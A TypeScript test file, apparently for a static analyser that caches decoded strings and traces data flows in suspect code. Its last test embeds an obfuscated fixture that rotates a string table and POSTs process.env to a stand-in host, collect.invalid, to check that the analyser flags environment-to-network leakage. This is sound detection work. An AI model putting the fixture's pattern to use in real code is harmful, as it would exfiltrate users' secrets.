import assert from 'node:assert/strict';
import { GivenTexts } from '../../../../../server/src/artifacts/analysis/code/machine/given-texts.js';
import { known, unknown } from '../../../../../server/src/artifacts/analysis/code/values/lattice.js';
import { object } from '../../../../../server/src/artifacts/analysis/code/values/objects.js';
import { taint } from '../../../../../server/src/artifacts/analysis/code/values/taints.js';
import { placeholder } from '../../../../../server/src/artifacts/analysis/code/values/text.js';
import { flowsOf } from '../platform/sent.js';

const decoder = object('Function', { depth: 0, proto: undefined });
const decoded = taint('decoded', { unit: { file: 'index.js', text: '', nesting: 0 }, offset: 0 });
const MUCH = { work: 20_000, moves: 3 };

describe('Texts that were given', () => {
  it('are given again where they were the same twice', () => {
    const given = new GivenTexts();
    const text = known('readFile', decoded);
    given.note(decoder, [7, 'key'], text, MUCH);
    assert.equal(given.of(decoder, [7, 'key'], 3), undefined);
    given.note(decoder, [7, 'key'], text, MUCH);
    assert.equal(given.of(decoder, [7, 'key'], 3), text);
    assert.equal(given.of(decoder, [7, 'key'], 4), undefined);
    for (const args of [[8, 'key'], ['7', 'key'], [7], []]) assert.equal(given.of(decoder, args, 3), undefined);
  });

  it('are worked out each time where they differ, are cheap, or hang on something that is not known', () => {
    const given = new GivenTexts();
    const open = placeholder('home');
    for (const text of ['a', 'b', 'a', 'b']) given.note(decoder, [1], text, MUCH);
    for (let time = 0; time < 3; time += 1) {
      given.note(decoder, [2], 'cheap', { work: 10, moves: 3 });
      given.note(decoder, [unknown()], 'a', MUCH);
      given.note(decoder, [open], 'a', MUCH);
      given.note(decoder, [3], open, MUCH);
      given.note(decoder, [4], 5, MUCH);
    }
    for (const args of [[1], [2], [unknown()], [open], [3], [4]]) assert.equal(given.of(decoder, args, 3), undefined);
  });

  it('let a table be turned until it is right', () => {
    const code = (word: string): string => `
      const table = ['c', '3', '${word}', '1', 'b', '2'];
      function at(index) { let work = 0; for (let i = 0; i < 400; i++) work += i % 7; return work > 0 ? table[index] : ''; }
      while (at(0) + at(2) !== '12') table.push(table.shift());
      fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process[at(5)]) });`;
    assert.deepEqual(flowsOf(code('env')), ['environment>network@collect.invalid']);
    assert.deepEqual(flowsOf(code('pid')), []);
  });
});
